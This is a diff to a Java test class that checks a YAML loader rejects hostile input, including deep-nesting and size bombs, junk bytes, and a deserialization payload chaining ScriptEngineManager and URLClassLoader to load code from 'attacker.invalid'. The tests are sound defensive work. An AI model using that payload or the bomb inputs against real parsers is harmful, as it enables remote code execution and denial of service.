@@ -31,7 +31,7 @@ class HostileInputTest {
   void deepFlowNestingStopsAtTheDepthLimit() {
     String text = ("[".repeat(1_000) + "\n").repeat(150) + ("]".repeat(1_000) + "\n").repeat(150);
     LoadResult r = Yaml.read(text);
-    assertEquals(List.of(Code.PK002), codes(r));
+    assertEquals(List.of(FileCode.LIMIT_EXCEEDED), codes(r));
     assertTrue(r.problems().get(0).message().startsWith("nesting deeper than the limit of 64 levels"));
   }
 
@@ -41,7 +41,7 @@ class HostileInputTest {
     for (int i = 0; i < 5_000; i++) {
       b.append(" ".repeat(i)).append("a:\n");
     }
-    assertEquals(List.of(Code.PK002), codes(Yaml.read(b.toString())));
+    assertEquals(List.of(FileCode.LIMIT_EXCEEDED), codes(Yaml.read(b.toString())));
   }
 
   @Test
@@ -55,7 +55,7 @@ class HostileInputTest {
       b.append("]\n");
     }
     LoadResult r = Yaml.read(b.toString());
-    assertEquals(List.of(Code.PK016, Code.PK002), codes(r));
+    assertEquals(List.of(FileCode.UNSUPPORTED_YAML_FEATURE, FileCode.LIMIT_EXCEEDED), codes(r));
     assertTrue(r.problems().size() <= Limits.defaults().maxProblems() + 1);
   }
 
@@ -66,13 +66,13 @@ class HostileInputTest {
             + "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
             + " [\"http://attacker.invalid/\"]]]]\n";
     LoadResult r = Yaml.read(text);
-    assertEquals(List.of(Code.PK016), codes(r));
+    assertEquals(List.of(FileCode.UNSUPPORTED_YAML_FEATURE), codes(r));
     assertFalse(r.catalog().frameworks().containsKey("f"));
   }
 
   @Test
   void manyDocumentsStopAtTheLimit() {
-    assertEquals(List.of(Code.PK002), codes(Yaml.read("---\n~\n".repeat(2_000))).subList(1, 2));
+    assertEquals(List.of(FileCode.LIMIT_EXCEEDED), codes(Yaml.read("---\n~\n".repeat(2_000))).subList(1, 2));
   }
 
   @Test
@@ -80,7 +80,7 @@ class HostileInputTest {
     byte[] junk = new byte[64 * 1024];
     new Random(20221014L).nextBytes(junk);
     Path file = Files.write(dir.resolve("junk.yaml"), junk);
-    assertEquals(List.of(Code.PK001), codes(YamlReader.standard().read(file)));
+    assertEquals(List.of(FileCode.MALFORMED_YAML), codes(YamlReader.standard().read(file)));
   }
 
   @Test
@@ -176,8 +176,8 @@ class HostileInputTest {
 
   @Test
   void controlCharactersAndLoneSurrogatesInATextAreRefused() {
-    assertEquals(List.of(Code.PK001), codes(Yaml.read(Yaml.doc("Framework", "f") + "name: a\u0000b\n")));
-    assertEquals(List.of(Code.PK001), codes(Yaml.read(Yaml.doc("Framework", "f") + "name: a\uD800b\n")));
+    assertEquals(List.of(FileCode.MALFORMED_YAML), codes(Yaml.read(Yaml.doc("Framework", "f") + "name: a\u0000b\n")));
+    assertEquals(List.of(FileCode.MALFORMED_YAML), codes(Yaml.read(Yaml.doc("Framework", "f") + "name: a\uD800b\n")));
   }
 
   @Test
@@ -224,7 +224,7 @@ class HostileInputTest {
     String text = "[" + "a,\n".repeat(300_000) + "a]\n";
     assertTrue(StandardCharsets.UTF_8.encode(text).limit() < Limits.defaults().maxFileBytes());
     LoadResult r = Yaml.read(text);
-    assertEquals(List.of(Code.PK002), codes(r));
+    assertEquals(List.of(FileCode.LIMIT_EXCEEDED), codes(r));
     assertTrue(r.problems().get(0).message().startsWith("more than 250000 values in the file"));
   }
 }
